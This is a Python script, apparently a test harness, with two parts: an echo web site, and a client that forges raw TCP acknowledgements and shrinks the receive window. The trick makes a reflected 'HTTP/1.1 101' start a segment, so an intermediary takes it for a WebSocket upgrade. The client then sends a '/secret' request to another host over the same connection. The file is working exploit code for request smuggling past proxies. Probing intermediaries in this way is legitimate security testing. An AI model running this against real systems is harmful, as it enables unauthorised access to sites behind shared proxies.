"""A site that says back what it was asked with, and a client that has it say so where a segment begins.

feigned_switch.py site PORT: an ordinary site over plain HTTP, which tells each request's Host.
feigned_switch.py ask ADDRESS PORT GOOD EVIL: asks GOOD for a WebSocket. Acknowledgements by hand leave the site a window of a few octets, so that what it says back of the request begins a segment, and reads
"HTTP/1.1 101". Then another site's request on the same connection: `refused`, or what comes back.
"""
import socket
import struct
import threading

from packets import ETH_IPV6, attempt, checksum, dispatch, family, ip, pseudo, raw_socket, say

FEIGNED = b"HTTP/1.1 101 x"
ECHOED = b"\r\n\r\nagent="
# Fewer than the 13 octets that a status line of 101 takes.
SMALL, LARGE = 12, 1000
ACK, RST = 16, 4
TCP_WINDOW_CLAMP, TCP_QUICKACK = 10, 12
WAIT, PIECE_WAIT = 30, 5


def site(port):
    with socket.create_server(("::", int(port)), family=socket.AF_INET6, dualstack_ipv6=True) as server:
        say(event="ready")
        while True:
            connection, _ = server.accept()
            threading.Thread(target=serve, args=(connection,), daemon=True).start()


def serve(connection):
    kept = b""
    while piece := connection.recv(4096):
        kept += piece
        while b"\r\n\r\n" in kept:
            head, kept = kept.split(b"\r\n\r\n", 1)
            fields = dict(line.split(": ", 1) for line in head.decode().split("\r\n")[1:])
            say(event="request", host=fields["Host"])
            said = "agent=" + fields.get("User-Agent", "")
            connection.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: {len(said)}\r\n\r\n{said}".encode())


def ask(address, port, good, evil):
    request = f"GET / HTTP/1.1\r\nHost: {good}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nUser-Agent: ".encode() + FEIGNED + b"\r\n\r\n"
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as tap:
        tap.bind(("eth0", 3))
        tap.settimeout(PIECE_WAIT)
        with socket.socket(family(address), socket.SOCK_STREAM) as connection:
            connection.settimeout(WAIT)
            # No scaling of windows.
            connection.setsockopt(socket.IPPROTO_TCP, TCP_WINDOW_CLAMP, 16384)
            connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            connection.connect((address, int(port)))
            far = FarEnd(tap, connection)
            connection.sendall(request[:-1])
            far.wait_until_it_has(len(request) - 1)
            # One number ahead: what the socket says with its last octet does not open the window again.
            far.acknowledge(len(request) + 1, SMALL)
            connection.sendall(request[-1:])
            attempt("reading", lambda: read_in_pieces(far, len(request) + 1))
            attempt("another site's request", lambda: ask_again(connection, far, evil))


def read_in_pieces(far, number):
    """Up to the octet where it says back what it was asked with, and then all of that at once."""
    window, target = SMALL, None
    while target is None or len(far.said) < target + len(FEIGNED):
        before = len(far.said)
        far.read()
        if target is not None and before == target:
            say(what="cut", result=far.said[before:][:len(FEIGNED)].decode())
        if target is None and ECHOED in far.said:
            target = far.said.index(ECHOED) + len(ECHOED)
        # Few enough not to come past the place unseen.
        window = 3 if target is None and b"Length" in far.said else SMALL
        if target is not None:
            window = LARGE if len(far.said) >= target else min(SMALL, target - len(far.said))
        far.acknowledge(number, window)


def ask_again(connection, far, evil):
    try:
        connection.sendall(f"GET /secret HTTP/1.1\r\nHost: {evil}\r\n\r\n".encode())
        said = b""
        while said.count(b"200 OK") < 2 and (piece := connection.recv(4096)):
            said += piece
            far.acknowledge(1000, LARGE)
        return said.decode()
    except ConnectionError:
        return "refused"


class FarEnd:
    """As its packets show it, and as packets by hand have it believe."""

    def __init__(self, tap, connection):
        self.tap, self.said, self.has = tap, b"", 0
        self.place, self.far_place = connection.getsockname()[:2], connection.getpeername()[:2]
        self.connection = connection
        self.first = self.far_first = None
        while self.first is None:
            self.take()
        self.quiet()

    def quiet(self):
        self.connection.setsockopt(socket.IPPROTO_TCP, TCP_QUICKACK, 0)

    def take(self):
        """A packet of either side, as the handshake and the far end's data come by."""
        frame, (_, ethertype, kind, _, _) = self.tap.recvfrom(65535)
        packet, six = frame[14:], ethertype == ETH_IPV6
        at = 40 if six else (packet[0] & 15) * 4
        if (packet[6] if six else packet[9]) != 6:
            return
        end = (40 if six else 0) + struct.unpack_from("!H", packet, 4 if six else 2)[0]
        source, destination, sequence, acknowledged, offset, flags = struct.unpack_from("!HHIIBB", packet, at)
        mine, other = self.place[1], self.far_place[1]
        if (source, destination) == (mine, other) and self.first is None and flags & 2 == 0:
            self.first, self.far_first = sequence, acknowledged
        if (source, destination) != (other, mine) or self.first is None:
            return
        if flags & RST:
            raise ConnectionResetError
        self.has = max(self.has, (acknowledged - self.first) & 0xFFFFFFFF)
        data, behind = packet[at + (offset >> 4) * 4:end], (sequence - self.far_first) & 0xFFFFFFFF
        if behind <= len(self.said) < behind + len(data):
            self.said += data[len(self.said) - behind:]

    def read(self):
        before = len(self.said)
        while len(self.said) == before:
            self.take()

    def wait_until_it_has(self, octets):
        while self.has < octets:
            self.take()

    def acknowledge(self, number, window):
        """Raw, without data, as if the socket had sent it; `number` counts from its first octet."""
        (source, source_port), (destination, port) = self.place, self.far_place
        numbers = [(self.first + number) & 0xFFFFFFFF, (self.far_first + len(self.said)) & 0xFFFFFFFF]
        head = struct.pack("!HHIIBBHHH", source_port, port, *numbers, 5 << 4, ACK, window, 0, 0)
        total = checksum(pseudo(source, destination, 6, head))
        with raw_socket(destination) as one:
            one.sendto(ip(source, destination, 6, head[:16] + struct.pack("!H", total) + head[18:]), (destination, 0))
        self.quiet()


dispatch({"site": site, "ask": ask})
